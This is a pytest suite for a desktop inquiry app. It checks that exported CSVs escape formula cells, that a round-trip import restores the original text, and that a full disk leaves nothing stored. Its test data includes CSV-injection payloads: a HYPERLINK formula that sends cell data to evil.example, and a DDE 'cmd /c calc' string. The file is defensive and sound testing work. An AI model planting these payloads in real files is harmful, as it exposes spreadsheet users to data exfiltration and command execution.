"""Formula cells through every CSV the app writes, the export -> import round trip, and a full disk on import."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from sqlalchemy import event, func, select

from saypro_desktop.core.csv_safety import FORMULA_TRIGGERS, is_plain_number
from saypro_desktop.models import ChangeLogEntry, Inquiry
from saypro_desktop.services import inquiries as svc
from saypro_desktop.services import report_files as rf
from saypro_desktop.services.context import acting
from saypro_desktop.services.csv_io import COLUMNS, export_inquiries, import_inquiries
from saypro_desktop.store import DataPaths, open_store
from saypro_desktop.store.failures import explain, is_disk_full
from tests.conftest import draft

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&B2,"Click")'
CMD = "+cmd|' /c calc'!A1"


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def _unsafe(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run as a formula."""
    return [c for r in rows for c in r if c.startswith(FORMULA_TRIGGERS) and not is_plain_number(c)]


def _hostile(store, clock) -> None:
    with acting(store, clock=clock) as ctx:
        svc.create_inquiry(ctx, draft(subject=HYPERLINK, user_full_name="@SUM(1)", user_phone="+27 82 555 0101",
                                      description="-2+3", user_location=CMD, user_account_id="-- see above"))
        svc.create_inquiry(ctx, draft(subject="'=already quoted", user_phone="+27825550101"))


def test_the_export_escapes_formula_cells_and_reimports_the_original_text(store, clock, tmp_path):
    _hostile(store, clock)
    target = tmp_path / "out.csv"
    with acting(store) as ctx:
        export_inquiries(ctx, target)
    rows = _cells(target)
    assert _unsafe(rows) == []
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["Subject"] == "'" + HYPERLINK and record["Full Name"] == "'@SUM(1)"
    assert record["Phone Number"] == "'+27 82 555 0101" and record["Description"] == "'-2+3"
    assert record["Location"] == "'" + CMD and record["User ID"] == "'-- see above"
    second = dict(zip(rows[0], rows[2], strict=True))
    assert second["Subject"] == "''=already quoted" and second["Phone Number"] == "'+27825550101"

    other = open_store(DataPaths(tmp_path / "other"))
    try:
        with acting(other) as ctx:
            result = import_inquiries(ctx, target)
            got = {i.inquiry_ref: (i.subject, i.user_full_name, i.user_phone, i.description, i.user_location,
                                   i.user_account_id)
                   for i in ctx.session.scalars(select(Inquiry))}
    finally:
        other.close()
    assert got["SCMR-2501-0001"] == (HYPERLINK, "@SUM(1)", "+27 82 555 0101", "-2+3", CMD, "-- see above")
    assert got["SCMR-2501-0002"][0] == "'=already quoted" and got["SCMR-2501-0002"][2] == "+27825550101"
    # Stored as text, with a note of where: legitimate text such as "-- see above" is never refused.
    assert (2, "Subject") in result.formula_cells and (2, "Description") in result.formula_cells
    assert (3, "Subject") not in result.formula_cells  # "'=already quoted" does not begin like a formula


def test_a_hand_made_file_with_formula_cells_is_imported_as_text(store, tmp_path):
    path = tmp_path / "in.csv"
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=COLUMNS)
        w.writeheader()
        w.writerow({"Subject": "@SUM(1)", "Category": "Other", "Other Category": "=1+1", "Mode of Inquiry": "Email",
                    "User Type": "Partner", "Full Name": "Kagiso Molefe", "Description": "\t=cmd",
                    "Logged At": "2025-01-10T09:00:00+02:00"})
    with acting(store) as ctx:
        result = import_inquiries(ctx, path)
        inquiry = ctx.session.scalar(select(Inquiry))
    assert result.imported == 1 and inquiry.subject == "@SUM(1)" and inquiry.category_other == "=1+1"
    assert inquiry.description == "=cmd"  # the tab goes as every cell's surrounding blanks do
    assert sorted(col for _, col in result.formula_cells) == ["Description", "Other Category", "Subject"]


def test_report_csvs_and_the_archive_index_escape_text_but_keep_numbers(store, clock, tmp_path):
    _hostile(store, clock)
    with acting(store, clock=clock) as ctx:
        clock.advance(days=1)
        archive = rf.archive_month(ctx, "2025-01", tmp_path / "archive")
        monthly = rf.write_monthly_csv(ctx, "2025-01", tmp_path / "m.csv")
    index = _cells(archive.index)
    assert _unsafe(index) == [] and [r[2] for r in index if HYPERLINK in r[2]] == ["'" + HYPERLINK]
    figures = _cells(monthly)
    assert _unsafe(figures) == []
    assert any(r[2] == "2" for r in figures if r[1] == "Inquiries logged")  # a figure stays a plain number


def test_a_failed_export_leaves_no_partial_file(store, clock, tmp_path, monkeypatch):
    _hostile(store, clock)
    from saypro_desktop.services import csv_io

    def full(*_a, **_k):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(csv_io, "_links_by_inquiry", lambda *a: {})
    monkeypatch.setattr(csv_io, "_fmt_time", full)
    with acting(store) as ctx, pytest.raises(OSError) as caught:
        export_inquiries(ctx, tmp_path / "out.csv")
    assert is_disk_full(caught.value)
    assert list(tmp_path.glob("out.csv*")) == []


def _fill_disk_on_begin(engine, spare_pages: int = 3):
    """The database may grow by only ``spare_pages`` pages on each transaction from now on: a full disk."""
    def limit(conn):
        raw = conn.connection.dbapi_connection
        pages = raw.execute("PRAGMA page_count").fetchone()[0]
        raw.execute(f"PRAGMA max_page_count = {pages + spare_pages}")
    event.listen(engine, "begin", limit)
    return limit


def _big_file(path: Path, rows: int = 300) -> Path:
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=COLUMNS)
        w.writeheader()
        for n in range(rows):
            w.writerow({"Subject": f"Renew expired ad {n}", "Category": "Ad Removal or Expiry",
                        "Mode of Inquiry": "Email", "User Type": "Advertiser", "Full Name": "Kagiso Molefe",
                        "Description": "A long description of the problem. " * 40,
                        "Logged At": "2025-01-10T09:00:00+02:00"})
    return path


def test_a_full_disk_during_an_import_stores_nothing_and_says_what_to_do(store, tmp_path):
    source = _big_file(tmp_path / "big.csv")
    with acting(store) as ctx:
        before = ctx.session.scalar(select(func.count()).select_from(ChangeLogEntry))
    hook = _fill_disk_on_begin(store.engine)
    with pytest.raises(Exception) as caught, acting(store) as ctx:
        import_inquiries(ctx, source)
    event.remove(store.engine, "begin", hook)
    store.engine.dispose()  # the limit stays with each pooled connection: new ones have room again
    assert is_disk_full(caught.value)
    message = explain(caught.value, what="'saypro import'")
    assert message and "disk is full" in message and "nothing of it was stored" in message
    with acting(store) as ctx:
        assert ctx.session.scalar(select(func.count()).select_from(Inquiry)) == 0
        assert ctx.session.scalar(select(func.count()).select_from(ChangeLogEntry)) == before
        assert import_inquiries(ctx, source).imported == 300  # with room again, the same file goes in whole
